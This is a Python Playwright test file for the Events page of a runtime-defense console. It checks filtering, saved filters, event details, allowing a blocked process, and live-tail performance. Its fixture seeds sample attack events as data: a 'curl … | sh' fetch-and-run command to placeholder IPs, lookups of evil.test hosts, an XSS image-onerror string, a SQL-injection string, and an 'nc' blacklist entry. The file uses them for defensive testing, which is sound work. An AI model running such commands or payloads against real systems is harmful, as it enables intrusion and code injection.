"""The page Events: looking, filtering, following, and allowing what was stopped."""

from __future__ import annotations

import os
import re
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from console import Console
from embedded import BUILT
from reporting import Reporter, look_up, program, request
from waiting import eventually

CheckPage = Callable[..., None]
RULE = {"name": "shop", "processes": {"effect": "prevent", "whitelist": ["/usr/bin/python3.11"], "blacklist": ["nc"]}}
HOSTILE = "<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def reporter(ui_console: Console, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reporter]:
    """A Defender that reported attacks of the last hours."""
    with closing(Reporter(ui_console, tmp_path_factory.mktemp("reporter"), "shop:5c1f")) as made:
        now = int(time.time() * 1000)
        for hour in range(8):
            made.report(
                *(
                    program("/usr/bin/dash", "-c", f"curl http://192.0.2.{n}/x | sh", matched="sh",
                            time=now - hour * 3_000_000 - n * 47_000)
                    for n in range(2 + hour * 3 % 7)
                ),
                look_up(f"c{hour}.evil.test", time=now - hour * 3_000_000 - 1000),
                program(f"/srv/{HOSTILE}", reason="processNotAllowed", time=now - hour * 3_000_000 - 2000),
                request("sqli", "1' OR '1'='1", time=now - hour * 3_000_000 - 3000),
            )  # fmt: skip
        yield made


def test_nothing_yet_teaches(page: Page, ui_console: Console, check_page: CheckPage) -> None:
    """Without events the page says what would be here."""
    page.goto(f"{ui_console.url}/monitor/events?appID=none")
    expect(page.get_by_text("Nothing matches")).to_be_visible()
    check_page(page, "events-empty")


@pytest.mark.usefixtures("reporter")
def test_events_are_found_by_facets_words_and_time(page: Page, ui_console: Console, check_page: CheckPage) -> None:
    """Facets, words and the span drawn over the chart narrow the list, and live in the address."""
    page.goto(f"{ui_console.url}/monitor/events")
    table = page.get_by_role("table", name="Events")
    expect(table).to_contain_text("SQL injection")
    # What an attacker named is text.
    expect(table.get_by_text(HOSTILE).first).to_be_visible()
    check_page(page, "events")
    page.get_by_role("group", name="Filters").get_by_role("checkbox", name="waas").check()
    expect(table).not_to_contain_text("dash")
    assert "kind=waas" in page.url
    page.get_by_role("button", name="Clear").click()
    page.get_by_role("searchbox", name="Search the events").fill("c3.EVIL")
    expect(table.get_by_role("row")).to_have_count(2)
    page.get_by_role("button", name="Clear").click()
    bars = page.get_by_role("img", name="events from")
    box = bars.bounding_box()
    assert box is not None
    page.mouse.move(box["x"] + box["width"] - 4, box["y"] + 40)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] * 0.97, box["y"] + 40, steps=3)
    page.mouse.up()
    expect(page.locator("input[aria-label=Time]")).to_have_value("The chosen span")
    assert "from=" in page.url
    expect(table).not_to_contain_text("c7.evil.test")


@pytest.mark.usefixtures("reporter")
def test_filters_are_kept_by_name(page: Page, ui_console: Console) -> None:
    """A filter that was saved is there again, in another visit too."""
    page.goto(f"{ui_console.url}/monitor/events?effect=alert")
    page.get_by_role("button", name="Saved").click()
    page.get_by_label("Name of this filter").fill("what alerts")
    page.get_by_role("button", name="Save", exact=True).click()
    page.goto(f"{ui_console.url}/monitor/events")
    page.get_by_role("button", name="Saved").click()
    page.get_by_role("menuitem", name="what alerts").click()
    expect(page.get_by_role("table", name="Events")).to_contain_text("evil.test")
    assert "effect=alert" in page.url


@pytest.mark.usefixtures("reporter")
def test_an_event_explains_itself_and_can_be_allowed(page: Page, ui_console: Console, check_page: CheckPage) -> None:
    """The drawer tells rule, command and parents; allowing shows the change before it is made."""
    ui_console.put_policy(RULE)
    page.goto(f"{ui_console.url}/monitor/events?reason=deniedProcess")
    page.get_by_role("table", name="Events").get_by_role("row").nth(1).click()
    drawer = page.get_by_role("dialog", name="Event", exact=True)
    expect(drawer).to_contain_text("/usr/local/bin/gunicorn")
    expect(drawer.get_by_label("The command")).to_contain_text("dash -c")
    expect(drawer.get_by_role("link", name="shop", exact=True)).to_have_attribute("href", "/defend/runtime?rule=shop")
    expect(drawer).to_contain_text("connected")
    check_page(page, "events-detail")
    drawer.get_by_role("button", name="Allow this").click()
    asked = page.get_by_role("dialog", name="Allow this")
    expect(asked).to_contain_text('proc.path = "/usr/bin/dash" and proc.ppath = "/usr/bin/python3.11"')
    check_page(page, "events-allow")
    asked.get_by_role("button", name="Change the rule").click()
    expect(page.get_by_text("The rule shop was changed")).to_be_visible()
    custom = ui_console.request("GET", "custom-rules").json()
    assert [item["name"] for item in custom] == ["allow dash in shop"]


def test_live_tail_stays_smooth(page: Page, ui_console: Console, reporter: Reporter, check_page: CheckPage) -> None:
    """Under 500 events a second no task of the page takes long, pausing counts, and going on shows what came."""
    page.goto(f"{ui_console.url}/monitor/events?live=1")
    expect(page.get_by_role("status").filter(has_text="Live")).to_be_visible()
    page.evaluate(
        "() => { window.longTasks = []; window.begun = performance.now();"
        " const note = list => list.getEntries().forEach(entry => window.longTasks.push(entry.duration));"
        " new PerformanceObserver(note).observe({type: 'longtask'}); }"
    )
    ending = threading.Event()

    def flood() -> None:
        begun, sent = time.monotonic(), 0
        while not ending.is_set():
            reporter.report(*(program("/usr/bin/id", f"{sent + n}") for n in range(50)))
            sent += 50
            ending.wait(max(0.0, sent / 500 - (time.monotonic() - begun)))

    thread = threading.Thread(target=flood)
    thread.start()
    try:
        table = page.get_by_role("table", name="Events as they come")
        expect(table).to_be_visible()
        eventually(lambda: table.get_attribute("aria-rowcount") == "1001", what="the browser holds its fill")
        page.get_by_role("button", name="Pause").click()
        expect(page.get_by_role("button", name="new)")).to_be_visible()
        seen = page.locator("tr[data-index='0']").inner_text()
        expect(page.get_by_role("button", name=re.compile("[0-9]{3} new"))).to_be_visible()
        assert page.locator("tr[data-index='0']").inner_text() == seen
        page.get_by_role("button", name="Go on").click()
        eventually(lambda: page.locator("tr[data-index='0']").inner_text() != seen, what="it goes on")
    finally:
        ending.set()
        thread.join()
    tasks, took = page.evaluate("[window.longTasks, performance.now() - window.begun]")
    # A machine under test is shared: no single task may freeze the page, and together they leave time for its user.
    assert max(tasks, default=0) < 600, tasks
    assert sum(tasks) < 0.7 * took, (tasks, took)
    check_page(page, "events-live")


@contextmanager
def looping_defender(console: Console, app_id: str, folder: Path) -> Iterator[Path]:
    """Run a shell under a real Defender that tries `id` again and again; give the file that `id` writes when it may."""
    bundle = console.request("GET", "defenders/install-bundle", params={"consoleaddr": "localhost"}).json()
    written = folder / "id.txt"
    loop = f"while :; do /usr/bin/id > {written}.new 2>/dev/null && mv {written}.new {written}; sleep 0.2; done"
    environment = {
        "PATH": os.environ["PATH"],
        "DEFENDER_TYPE": "appEmbedded",
        "DEFENDER_APP_ID": app_id,
        "WS_ADDRESS": bundle["wsAddress"],
        "INSTALL_BUNDLE": bundle["bundle"],
    }
    command = [os.environ.get("BARTIZAN_DEFENDER") or str(BUILT), "app-embedded", "/bin/sh", "-c", loop]
    process = subprocess.Popen(command, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield written
    finally:
        process.terminate()
        process.wait(timeout=20)


def test_what_a_defender_prevents_runs_once_allowed(page: Page, ui_console: Console, tmp_path: Path) -> None:
    """A real Defender prevents a program; allowed from its event in the browser, the program runs."""
    rule = {
        "name": "tight",
        "collections": [{"name": "looping", "appIDs": ["looping:1"]}],
        "processes": {"effect": "prevent", "whitelist": ["/usr/bin/dash", "/usr/bin/sleep", "/usr/bin/mv"]},
    }
    ui_console.put_policy(rule)
    with looping_defender(ui_console, "looping:1", tmp_path) as written:
        page.goto(f"{ui_console.url}/monitor/events?live=1&appID=looping:1&q=/usr/bin/id")
        page.get_by_role("table", name="Events as they come").get_by_role("row").nth(1).click()
        written.unlink(missing_ok=True)
        drawer = page.get_by_role("dialog", name="Event", exact=True)
        drawer.get_by_role("button", name="Allow this").click()
        asked = page.get_by_role("dialog", name="Allow this")
        expect(asked).to_contain_text("/usr/bin/id")
        assert not written.exists()
        asked.get_by_role("button", name="Change the rule").click()
        expect(page.get_by_text("The rule tight was changed")).to_be_visible()
        eventually(lambda: written.exists() and written.read_text().startswith("uid="), what="`id` runs")
